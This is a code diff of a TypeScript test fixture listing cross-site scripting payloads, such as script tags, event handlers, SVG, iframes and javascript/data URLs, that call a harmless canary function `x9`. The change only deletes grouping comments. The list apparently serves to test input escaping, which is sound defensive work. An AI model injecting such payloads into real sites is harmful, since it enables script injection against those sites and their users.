@@ -2,7 +2,6 @@ import { asOneLine } from '@dryrun/shared/interview/label.ts'
 
 /** Script injection payloads that call `x9` or request a URL with x9 in it when executed. Each fits into a name. */
 export const payloads: readonly string[] = [
-  // Scripts.
   '<script>x9()</script>',
   '<ScRiPt>x9()</sCrIpT>',
   '<script src=/x9.js></script>',
@@ -14,7 +13,6 @@ export const payloads: readonly string[] = [
   ']]><script>x9()</script>',
   '"><script>x9()</script>',
   `'><script>x9()</script>`,
-  // Event handlers.
   '<img src=/x9 onerror=x9()>',
   '<img/src=/x9/onerror=x9()>',
   '<IMG """><IMG SRC=/x9 ONERROR="x9()">',
@@ -29,7 +27,6 @@ export const payloads: readonly string[] = [
   '" autofocus onfocus="x9()',
   `' onmouseover='x9()`,
   '` onerror=x9() `',
-  // SVG.
   '<svg onload=x9()>',
   '<svg><script>x9()</script></svg>',
   '<svg><animate onbegin=x9() attributeName=x dur=1s>',
@@ -54,7 +51,6 @@ export const payloads: readonly string[] = [
   '<a href=data:text/html;base64,PHNjcmlwdD54OSgpPC9zY3JpcHQ+>',
   '<a href="//x9.example" ping="//x9.example">x</a>',
   '//x9.example/x',
-  // Frames and base URLs.
   '<iframe src="javascript:x9()">',
   '<iframe srcdoc="<script>x9()</script>">',
   '<object data="data:text/html,<script>x9()</script>">',
